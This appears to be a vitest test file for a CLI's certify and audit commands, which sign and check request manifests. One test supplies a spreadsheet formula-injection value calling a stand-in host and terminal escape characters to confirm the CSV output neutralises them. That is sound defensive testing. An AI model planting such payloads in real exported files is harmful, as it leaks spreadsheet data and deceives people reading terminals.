import { createPublicKey } from 'node:crypto';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { PassThrough } from 'node:stream';
import {
  fingerprint,
  generateSigningKey,
  PAYLOAD_TYPES,
  privateKeyToPem,
  validSigners,
} from '@blindmatch/protocol';
import type { RequestRecord } from '@blindmatch/records';
import { createReporter, writeSecretFile, type Reporter } from '@blindmatch/terminal';
import { describe, expect, it } from 'vitest';
import { generateAgeIdentity } from '../src/age.ts';
import { identityFileText } from '../src/age-identity-file.ts';
import { audit, type AuditOptions } from '../src/commands/audit.ts';
import { certify, type CertifyOptions } from '../src/commands/certify.ts';
import { signRequest } from '../src/request-signing.ts';
import { readStoredRequest, type StoredRequest } from '../src/stored-request.ts';
import {
  auditor,
  holder,
  placeIn,
  prepareAnyhow,
  records,
  recordWith,
  type Preparation,
} from './request-of-tests.ts';
import { codeOf, temporaryDirectory } from './temporary-directory.ts';

const directory = temporaryDirectory();
const certifier = generateSigningKey().privateKey;
const key = join(directory, 'certifier.pem');
const identity = join(directory, 'reader.age');
const strange = join(directory, 'stranger.age');
writeSecretFile(key, privateKeyToPem(certifier));
writeSecretFile(identity, identityFileText(auditor));
writeSecretFile(strange, identityFileText(await generateAgeIdentity()));

/** What a command said, with --json: its events. */
interface Told {
  readonly code: string | undefined;
  readonly events: readonly Readonly<Record<string, unknown>>[];
}

async function run(command: (reporter: Reporter) => Promise<void>): Promise<Told> {
  const stdout = new PassThrough();
  const streams = { stdout, stderr: new PassThrough() };
  const reporter = createReporter({ json: true, program: 'blindmatch', streams });
  const code = await codeOf(() => command(reporter));
  stdout.end();
  const lines = (await stdout.toArray()).join('').split('\n').slice(0, -1);
  return { code, events: lines.map((line) => JSON.parse(line) as Record<string, unknown>) };
}

async function request(preparation: Preparation): Promise<StoredRequest> {
  return await prepareAnyhow(placeIn(directory), preparation);
}

async function certifyWith(
  stored: StoredRequest,
  registered: readonly RequestRecord[],
  options: Partial<CertifyOptions> = {},
): Promise<Told & { readonly signed: boolean }> {
  const registry = `${stored.files.path}.orders.csv`;
  const rows = registered.map(
    ({ orderNumber, orderDate, givenName, surname }) =>
      `${orderNumber},${orderDate},${givenName},${surname}\n`,
  );
  writeFileSync(registry, `order_number,order_date,given_name,surname\n${rows.join('')}`);
  const before = readFileSync(stored.files.manifest);
  const told = await run((reporter) =>
    certify(stored.files.path, { registry, key, identity, yes: true, workers: 1, ...options }, reporter),
  );
  const { envelope } = readStoredRequest(stored.files).request;
  const publicKey = createPublicKey(certifier);
  const signers = validSigners(envelope, PAYLOAD_TYPES.requestManifest, [publicKey]);
  if (signers.length === 0) expect(readFileSync(stored.files.manifest)).toEqual(before);
  return { ...told, signed: signers.includes(fingerprint(certifier)) };
}

describe('certify', () => {
  it('signs a request whose records all have their order', async () => {
    const some = records(3);
    const { code, signed, events } = await certifyWith(await request({ submitted: some }), some);
    expect([code, signed]).toEqual([undefined, true]);
    expect(events.map(({ event }) => event)).toEqual(['checked', 'to_sign', 'certified']);
  });

  it('signs nothing where a record fails, and names it in a file', async () => {
    const stored = await request({ submitted: records(3) });
    const failures = `${stored.files.path}.failures.csv`;
    const { code, signed, events } = await certifyWith(stored, records(2), { failures });
    expect([code, signed]).toEqual(['records_failed', false]);
    expect(readFileSync(failures, 'utf8')).toBe('record_id,code\nr2,order_unknown\n');
    expect(events).toEqual([
      { event: 'total', code: 'order_unknown', records: 1 },
      expect.objectContaining({ event: 'checked', records: 3, failing: 1 }),
    ]);
  });

  it('tells whose names it compared with none, and signs only where it is asked to', async () => {
    const some = records(3);
    const unnamed = some.with(1, { ...some[1]!, givenName: '', surname: '' });
    const stored = await request({ submitted: some });
    const refused = await certifyWith(stored, unnamed);
    expect(refused).toMatchObject({ code: 'records_failed', signed: false });
    expect(refused.events).toContainEqual({ event: 'total', code: 'order_name_missing', records: 1 });
    const { signed, events } = await certifyWith(stored, unnamed, { withoutNames: true });
    expect(signed).toBe(true);
    expect(events.filter(({ event }) => event === 'notice')).toEqual([
      expect.objectContaining({ code: 'names_not_compared', records: 1 }),
    ]);
    for (const told of ['checked', 'certified']) {
      expect(events).toContainEqual(expect.objectContaining({ event: told, names_not_compared: 1 }));
    }
  });

  it('signs nothing that is dated in the future, where orders would be older', async () => {
    const some = records(1);
    const created = new Date(Date.now() + 86_400_000);
    const expires = new Date(Date.now() + 2 * 86_400_000);
    const stored = await request({ submitted: some, manifest: { created, expires } });
    expect(await certifyWith(stored, some)).toMatchObject({ code: 'manifest_expired', signed: false });
  });

  it('signs nothing where other elements were blinded than the records give', async () => {
    const sealed = records(3);
    const stored = await request({ submitted: sealed.with(1, recordWith(9)), sealed });
    expect(await certifyWith(stored, sealed)).toMatchObject({ code: 'request_mismatch', signed: false });
  });

  it('signs nothing without --yes where there is no terminal', async () => {
    const some = records(2);
    const told = await certifyWith(await request({ submitted: some }), some, { yes: false });
    expect(told).toMatchObject({ code: 'confirmation_needed', signed: false });
  });

  it('signs nothing where the evidence was sealed for others', async () => {
    const some = records(2);
    const told = await certifyWith(await request({ submitted: some }), some, { identity: strange });
    expect(told).toMatchObject({ code: 'evidence_sealed', signed: false });
  });

  it('signs nothing for another holder than the one named', async () => {
    const some = records(2);
    const holder = `sha256:${'ab'.repeat(32)}`;
    const told = await certifyWith(await request({ submitted: some }), some, { holder });
    expect(told).toMatchObject({ code: 'holder_unexpected', signed: false });
  });
});

describe('audit', () => {
  async function auditWith(stored: StoredRequest, options: Partial<AuditOptions> = {}): Promise<Told> {
    const all = {
      ...{ identity, holder: fingerprint(holder), receipt: true, sample: 200, workers: 1 },
      ...options,
    };
    return await run((reporter) => audit(stored.files.path, all, reporter));
  }

  /** A request that somebody has signed. */
  async function signed(preparation: Preparation): Promise<StoredRequest> {
    const stored = await request(preparation);
    signRequest(stored, certifier);
    return stored;
  }

  it('tells that a request is what it says', async () => {
    const stored = await signed({ submitted: records(3) });
    const drawn = `${stored.files.path}.drawn.csv`;
    const { code, events } = await auditWith(stored, { sample: 2, drawn, receipt: false });
    expect(code).toBeUndefined();
    expect(events.at(-1)).toMatchObject({
      ...{ event: 'audited', sound: true, records: 3, sampled: 2, receipt: 'absent', signatures: 1 },
      ...{ chance_to_miss_10_percent: 0.81 },
    });
    expect(readFileSync(drawn, 'utf8').trimEnd().split('\n')).toHaveLength(3);
  });

  it('ends with a failure and names what it found where it is not', async () => {
    const sealed = records(3);
    const submitted = sealed.with(1, recordWith(1, { surname: 'Miller' }));
    const { code, events } = await auditWith(await signed({ submitted, sealed }), { receipt: false });
    expect(code).toBe('audit_failed');
    expect(events).toContainEqual({ event: 'failure', subject: 'r1', code: 'element_differs' });
    expect(events.at(-1)).toMatchObject({ sound: false, failing: ['element_differs 1'] });
  });

  it('fails a request without a receipt, unless it is told that there is none', async () => {
    const stored = await signed({ submitted: records(2) });
    const { code, events } = await auditWith(stored);
    expect(code).toBe('audit_failed');
    expect(events).toContainEqual({ event: 'failure', subject: 'request', code: 'receipt_missing' });
    expect((await auditWith(stored, { receipt: false })).code).toBeUndefined();
  });

  it('fails a request that nobody has signed', async () => {
    const { code, events } = await auditWith(await request({ submitted: records(2) }), { receipt: false });
    expect(code).toBe('audit_failed');
    expect(events).toContainEqual({ event: 'failure', subject: 'request', code: 'not_signed' });
  });

  it('refuses a request to another holder than the one named', async () => {
    const told = await auditWith(await signed({ submitted: records(1) }), {
      holder: `sha256:${'ab'.repeat(32)}`,
    });
    expect(told.code).toBe('holder_unexpected');
  });

  it('writes drawn cells that neither a spreadsheet nor a terminal acts on', async () => {
    const submitted = [
      recordWith(0, { recordId: '=HYPERLINK("http://x/"&A1)' }),
      recordWith(1, { recordId: '\u001b[2K\u202e' }),
    ];
    const stored = await signed({ submitted });
    const drawn = `${stored.files.path}.drawn.csv`;
    expect((await auditWith(stored, { drawn, receipt: false })).code).toBeUndefined();
    const ids = readFileSync(drawn, 'utf8').split('\n').slice(1, 3);
    expect(ids[0]).toMatch(/^"'=HYPERLINK\(""http/);
    expect(ids[1]).toMatch(/^\\u001b\[2K\\u202e,/);
  });
});
